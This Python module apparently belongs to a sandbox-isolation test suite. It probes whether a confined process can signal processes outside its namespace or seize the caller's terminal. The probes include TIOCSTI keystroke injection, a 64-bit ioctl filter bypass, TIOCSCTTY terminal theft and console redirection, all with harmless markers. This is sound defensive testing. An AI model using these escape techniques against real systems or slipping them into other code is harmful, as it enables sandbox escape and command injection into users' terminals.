"""Signal processes of the caller, and use the caller's terminal."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import glob
import os
import signal
import struct
import termios
from typing import Any, Callable, Iterator, List, Optional

from .base import CONTROL, HINTS, LIBC, TIOCGSID, Absent, Sent, attempt, checked, each, is_the_hosts, opened

# Signals

IGNORED = signal.SIGURG  # ignored unless a program asks for it


@attempt("signals")
def signal_the_planted_process_by_its_number() -> Optional[str]:
    os.kill(HINTS["victim"], signal.SIGUSR1)
    raise Sent("SIGUSR1")


@attempt("signals")
def signal_the_process_group() -> Optional[str]:
    """A process group may have members outside the PID namespace."""
    os.kill(0, IGNORED)
    raise Sent("SIGURG to the process group")


@attempt("signals", disturbs=True)
def signal_every_process() -> Optional[str]:
    os.kill(-1, signal.SIGCONT)
    raise Sent("SIGCONT to every process")


@attempt("signals")
def signal_the_group_of_the_caller_by_its_number() -> Optional[str]:
    os.kill(-HINTS["group"], signal.SIGUSR2)
    raise Sent("SIGUSR2")


@attempt("signals")
def signal_the_owner_of_a_descriptor() -> Optional[str]:
    """The kernel sends SIGIO to a process group that was set as the owner."""
    near, far = os.pipe()
    fcntl.fcntl(near, 10, signal.SIGIO)  # F_SETSIG
    fcntl.fcntl(near, fcntl.F_SETOWN, -HINTS["group"])
    fcntl.fcntl(near, fcntl.F_SETFL, fcntl.fcntl(near, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(far, b"x")
    raise Sent("SIGIO")


@attempt("signals")
def process_group_of_the_caller() -> Optional[str]:
    """0 is a process group whose leader is outside the PID namespace."""
    found = os.getpgid(0)
    return f"process group {found}" if found == 0 or found == HINTS["group"] else None


@attempt("signals")
def session_of_the_caller() -> Optional[str]:
    found = os.getsid(0)
    return f"session {found}" if found == 0 or found == HINTS["session"] else None


# Terminal


def terminals() -> Iterator[int]:
    for fd in (0, 1, 2):
        if os.isatty(fd):
            yield fd
    for path in ("/dev/tty", "/dev/console", *sorted(glob.glob("/dev/pts/[0-9]*"))):
        with contextlib.suppress(OSError):
            yield os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)


def own_terminals(limit: Optional[str] = None) -> List[int]:
    """The terminals to attack; without a run, only the planted one."""
    found = [fd for fd in terminals() if not CONTROL or os.fstat(fd).st_rdev == HINTS["terminal"][1] or fd < 3]
    if not found:
        raise Absent("no terminal")
    return found


def is_the_callers(fd: int) -> bool:
    there = os.fstat(fd)
    if there.st_rdev != os.makedev(5, 0):
        return bool([there.st_dev, there.st_rdev] == HINTS["terminal"])
    return struct.unpack("i", fcntl.ioctl(fd, TIOCGSID, bytes(4)))[0] in (0, HINTS["session"])


def on_terminals(act: Callable[[int], Any]) -> Optional[str]:
    done = []
    error: Optional[OSError] = None
    for fd in own_terminals():
        try:
            act(fd)
            done.append(fd)
        except (OSError, termios.error) as failed:
            error = error or OSError(*failed.args)
    if done:
        owner = "the caller's" if any(is_the_callers(fd) for fd in done) else "another"
        raise Sent(f"on {owner} terminal: {[os.readlink(f'/proc/self/fd/{fd}') for fd in done]}")
    assert error
    raise error


def push(text: str) -> Callable[[int], None]:
    def act(fd: int) -> None:
        for letter in text:
            fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())

    return act


@attempt("terminal")
def type_into_the_callers_terminal() -> Optional[str]:
    return on_terminals(push("typed-by-probe\n"))


@attempt("terminal")
def type_into_the_callers_terminal_with_high_request_bits() -> Optional[str]:
    """A filter that compares 64 bits of the request misses requests that the kernel truncates to 32 bits."""

    def act(fd: int) -> None:
        for letter in b"high-bits\n":
            checked(LIBC.ioctl(fd, ctypes.c_ulong((1 << 32) | termios.TIOCSTI), ctypes.byref(ctypes.c_char(letter))))

    return on_terminals(act)


@attempt("terminal")
def paste_by_the_console_selection() -> Optional[str]:
    """TIOCLINUX, subcode 3, on a virtual console pastes the selection as input."""

    def act(fd: int) -> None:
        checked(LIBC.ioctl(fd, ctypes.c_ulong(termios.TIOCLINUX), ctypes.byref(ctypes.c_char(3))))

    return on_terminals(act)


@attempt("terminal")
def controlling_terminal_opens() -> Optional[str]:
    fd = os.open("/dev/tty", os.O_RDWR | os.O_NONBLOCK)
    same = os.fstat(0).st_dev == HINTS["terminal"][0] and os.fstat(0).st_rdev == HINTS["terminal"][1]
    sid = struct.unpack("i", fcntl.ioctl(fd, TIOCGSID, struct.pack("i", 0)))[0]
    return f"/dev/tty of session {sid}" if same or sid == HINTS["session"] or sid == 0 else None


@attempt("terminal")
def change_modes_of_the_callers_terminal() -> Optional[str]:
    def act(fd: int) -> None:
        modes = termios.tcgetattr(fd)
        modes[6][termios.VEOL] = b"\x05"
        termios.tcsetattr(fd, termios.TCSANOW, modes)

    return on_terminals(act)


@attempt("terminal")
def change_size_of_the_callers_terminal() -> Optional[str]:
    return on_terminals(lambda fd: fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("4H", 77, 177, 0, 0)))


@attempt("terminal")
def become_foreground_of_the_callers_terminal() -> Optional[str]:
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)

    def act(fd: int) -> None:
        before = os.tcgetpgrp(fd)
        os.setpgid(0, 0)
        os.tcsetpgrp(fd, os.getpgid(0))
        with contextlib.suppress(OSError):
            os.tcsetpgrp(fd, before)

    return on_terminals(act)


@attempt("terminal", disturbs=True)
def take_the_callers_terminal_as_controlling() -> Optional[str]:
    fds = own_terminals()
    if os.fork():
        with contextlib.suppress(OSError):
            os.wait()
        raise Sent("TIOCSCTTY")
    os.setsid()
    for fd in fds:
        with contextlib.suppress(OSError):
            fcntl.ioctl(fd, termios.TIOCSCTTY, 1)  # 1: steal it from its session
    os._exit(0)


@attempt("terminal")
def open_the_other_side_of_the_callers_terminal() -> Optional[str]:
    """Try TIOCGPTPEER and other devices of the same devpts."""
    found = [path for path in glob.glob("/dev/pts/[0-9]*") if os.stat(path).st_dev == HINTS["terminal"][0]]
    return each(lambda path: opened(path, os.O_RDWR), found) if found else None


@attempt("terminal", disturbs=True)
def redirect_the_console() -> Optional[str]:
    return on_terminals(lambda fd: fcntl.ioctl(fd, termios.TIOCCONS))


@attempt("terminal")
def hang_up_the_callers_terminal() -> Optional[str]:
    """TIOCVHANGUP needs CAP_SYS_ADMIN, so try only the harmless TIOCGEXCL with it."""
    found = any(struct.unpack("i", fcntl.ioctl(fd, 0x80045440, struct.pack("i", 0)))[0] for fd in own_terminals())
    with open("/proc/self/status") as file:
        effective = int(next(line for line in file if line.startswith("CapEff")).split()[1], 16)
    return f"the capability is effective ({found})" if effective & 1 << 21 and is_the_hosts("user") else None


@attempt("terminal")
def lock_the_callers_terminal() -> Optional[str]:
    """After TIOCEXCL only root can open the terminal. Undone at once."""

    def act(fd: int) -> None:
        there = os.fstat(fd)
        if [there.st_dev, there.st_rdev] != HINTS["terminal"]:
            raise OSError(errno.ENOTTY, "another terminal")
        fcntl.ioctl(fd, termios.TIOCEXCL)
        fcntl.ioctl(fd, termios.TIOCNXCL)

    found = False
    for fd in own_terminals():
        with contextlib.suppress(OSError):
            act(fd)
            found = True
    return "the caller's terminal can be locked" if found else None
